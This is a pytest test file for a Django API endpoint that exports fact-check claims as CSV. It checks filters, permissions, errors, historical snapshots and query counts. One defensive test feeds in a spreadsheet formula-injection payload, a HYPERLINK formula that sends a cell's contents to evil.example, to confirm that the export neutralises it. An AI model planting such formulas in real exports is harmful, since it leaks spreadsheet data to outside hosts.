"""GET /api/v1/claims/export/: the claim list as CSV, with the list's filters, keys and permissions."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test.utils import CaptureQueriesContext

from claims import services
from claims.export import ClaimExportResource
from claims.models import Independence, Stance
from sources.models import SourceKind
from tests.api.fixtures import add_evidence, auth
from tests.factories import SourceFactory

URL = "/api/v1/claims/export/"
HEADERS = ClaimExportResource().get_export_headers()


def _body(response) -> str:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="claims-')
    return b"".join(response.streaming_content).decode("utf-8")


def rows(response) -> list[dict]:
    reader = csv.reader(io.StringIO(_body(response)))
    header = next(reader)
    assert header == HEADERS
    return [dict(zip(header, line, strict=True)) for line in reader]


def ids(response) -> list[int]:
    return [int(row["id"]) for row in rows(response)]


def test_it_exports_a_claim_with_its_chain_evidence_and_verdict(client_api, make_claim, reviewer):
    reviewer.first_name, reviewer.last_name = "Rita", "Reviewer"
    reviewer.save()
    ft = SourceFactory(name="Financial Times")
    claim = make_claim(
        "Huawei lent engineers to DeepSeek",
        status="confirmed",
        outlet=SourceFactory(name="Coastal Herald"),
        cited=ft,
        summary_en="Huawei lent engineers",
    )
    add_evidence(claim, outlet=SourceFactory(name="Nordic Wire"))
    add_evidence(claim, independence=Independence.RE_REPORT, origin=ft)
    add_evidence(claim, stance=Stance.REFUTES, outlet=SourceFactory(name="Harbour Post"))

    [row] = rows(client_api.get(URL))

    assert row["id"] == str(claim.pk)
    assert row["text"] == "Huawei lent engineers to DeepSeek"
    assert row["English summary"] == "Huawei lent engineers"
    assert row["language"] == "en"
    assert row["kind"] == "Fact / event"
    assert row["status"] == "Confirmed"
    assert row["attribution chain (outermost first)"] == (
        "Coastal Herald — citing — Financial Times — citing — 2 unnamed sources — «people familiar with the matter»"
    )
    assert row["origin"] == "2 unnamed sources — «people familiar with the matter»"
    assert row["evidence (not rejected)"] == "3"
    assert (row["supports"], row["refutes"], row["denied by subject"]) == ("2", "1", "0")
    assert (row["independent"], row["re-reports"]) == ("2", "1")
    assert row["independent supporting origins"] == "Nordic Wire"
    assert row["refuting origins"] == "Harbour Post"
    assert row["suggested credibility (1-6)"] == "4"  # as many refuting as supporting origins
    assert row["verdict"] == "Confirmed"
    assert row["verdict by"] == "Rita Reviewer"
    assert row["verdict rationale"] == "Checked against filings."
    assert row["verdict on version"] == "1"
    assert row["verdict at (UTC)"].endswith("Z")
    assert row["verdicts recorded"] == "1"
    assert (
        row["verdict history (oldest first)"] == f"{row['verdict at (UTC)'][:10]} Confirmed (Rita Reviewer)"
    )
    assert row["created at (UTC)"].endswith("Z")


def test_anonymous_and_read_keys_get_decided_claims_only_edit_keys_all(
    client_api, make_claim, read_key, edit_key, review_key
):
    decided = make_claim("Decided", status="false")
    draft = make_claim("A draft")
    assert ids(client_api.get(URL)) == [decided.pk]
    assert ids(client_api.get(URL, **auth(read_key))) == [decided.pk]
    for key in (edit_key, review_key):
        assert sorted(ids(client_api.get(URL, **auth(key)))) == sorted([decided.pk, draft.pk])


def test_it_applies_the_list_filters_and_ordering(client_api, make_claim):
    a = make_claim("A", status="confirmed", language="ru")
    b = make_claim("B", status="false")
    c = make_claim("C", status="disputed", chain=[{"source": SourceFactory(kind=SourceKind.OUTLET)}])
    assert ids(client_api.get(URL, {"status": "confirmed"})) == [a.pk]
    assert ids(client_api.get(URL, {"status": ["confirmed", "false"], "ordering": "id"})) == [a.pk, b.pk]
    assert ids(client_api.get(URL, {"language": "ru"})) == [a.pk]
    assert ids(client_api.get(URL, {"unnamed_only": "false"})) == [c.pk]
    assert ids(client_api.get(URL)) == [c.pk, b.pk, a.pk]  # newest first, as the list
    assert ids(client_api.get(URL, {"ordering": "id"})) == [a.pk, b.pk, c.pk]


@pytest.mark.parametrize(
    "params, field",
    [
        ({"statuss": "confirmed"}, "statuss"),
        ({"format": "csv"}, "format"),
        ({"cursor": "abc"}, "cursor"),
        ({"page_size": "10"}, "page_size"),
        ({"ordering": "text"}, "ordering"),
        ({"as_of": "yesterday"}, "as_of"),
        ({"made_after": "not a date"}, "made_after"),
    ],
)
def test_bad_parameters_are_400_with_the_field(client_api, make_claim, params, field):
    make_claim("A", status="confirmed")
    response = client_api.get(URL, params, HTTP_ACCEPT="text/csv")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert field in response.json()["error"]["fields"]


def test_a_bad_key_is_401_and_a_key_whose_user_left_is_403(client_api, make_claim, edit_key, editor):
    make_claim("A", status="confirmed")
    unknown = client_api.get(URL, HTTP_AUTHORIZATION="Bearer ct_nothere_0000", HTTP_ACCEPT="text/csv")
    assert unknown.status_code == 401
    assert unknown.json()["error"]["code"]

    editor.groups.remove(Group.objects.get(name="Editors"))
    left = client_api.get(URL, **auth(edit_key))
    assert left.status_code == 403
    assert "no longer has the permission" in left.json()["error"]["message"]


def test_a_client_may_ask_for_text_csv(client_api, make_claim):
    claim = make_claim("A", status="confirmed")
    assert ids(client_api.get(URL, HTTP_ACCEPT="text/csv")) == [claim.pk]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_cells_that_would_run_as_formulas_start_with_an_apostrophe(client_api, make_claim, start):
    text = f'{start}HYPERLINK("https://evil.example/?"&A1, "click")'
    make_claim(text, status="confirmed", summary_en=f"{start}1+2")
    [row] = rows(client_api.get(URL))
    assert row["text"] == "'" + text
    assert row["English summary"] == f"'{start}1+2"


def test_as_of_exports_the_claims_as_they_stood(client_api, make_claim, reviewer):
    claim = make_claim("A", status="confirmed")
    moment = claim.current_verdict.created_at.isoformat()
    services.verdict_record(
        claim=claim, status="false", rationale="A filing said otherwise.", reviewer=reviewer, seen_version=2
    )
    [now] = rows(client_api.get(URL))
    assert now["verdict"] == "False"
    assert now["verdicts recorded"] == "2"
    assert now["verdict history (oldest first)"].endswith(
        " Confirmed (reviewer); " + now["verdict at (UTC)"][:10] + " False (reviewer)"
    )
    [then] = rows(client_api.get(URL, {"as_of": moment}))
    assert then["verdict"] == "Confirmed"
    assert then["status"] == "Confirmed"
    assert then["verdicts recorded"] == "1"


def test_an_imported_verdict_is_credited_to_its_organisation(client_api, db):
    from claimreview import services as claimreview_services

    claimreview_services.claimreview_import(
        data=b'{"@type": "ClaimReview", "claimReviewed": "The ferry sank", "author": "Harbour Checks", '
        b'"reviewRating": {"alternateName": "False"}}'
    )
    [row] = rows(client_api.get(URL))
    assert (row["verdict"], row["verdict by"]) == ("False", "Harbour Checks")
    assert row["verdict history (oldest first)"].endswith(" False (Harbour Checks)")


def _export_queries(client_api, key) -> tuple[list[str], int]:
    with CaptureQueriesContext(connection) as queries:
        body = _body(client_api.get(URL, **auth(key)))
    return [q["sql"][:100] for q in queries], body.count("\n") - 1


def test_its_queries_do_not_grow_with_the_number_of_claims(client_api, make_claim, edit_key):
    for n in range(2):
        add_evidence(make_claim(f"Claim {n}", status="confirmed" if n % 2 else None))
    client_api.get(URL, **auth(edit_key))  # the key's first use is recorded once, then not for a minute
    few, exported = _export_queries(client_api, edit_key)
    assert exported == 2
    for n in range(2, 14):
        add_evidence(make_claim(f"Claim {n}", status="confirmed" if n % 2 else None))
    many, exported = _export_queries(client_api, edit_key)
    assert exported == 14
    assert len(many) == len(few), (few, many)


def test_the_schema_documents_a_csv_body_and_json_errors(db):
    from drf_spectacular.generators import SchemaGenerator

    operation = SchemaGenerator().get_schema(request=None, public=True)["paths"]["/api/v1/claims/export/"][
        "get"
    ]
    assert list(operation["responses"]["200"]["content"]) == ["text/csv"]
    assert list(operation["responses"]["400"]["content"]) == ["application/json"]
    names = {p["name"] for p in operation["parameters"]}
    assert {"status", "source", "language", "q", "ordering", "as_of"} <= names
    assert not names & {"cursor", "page_size"}
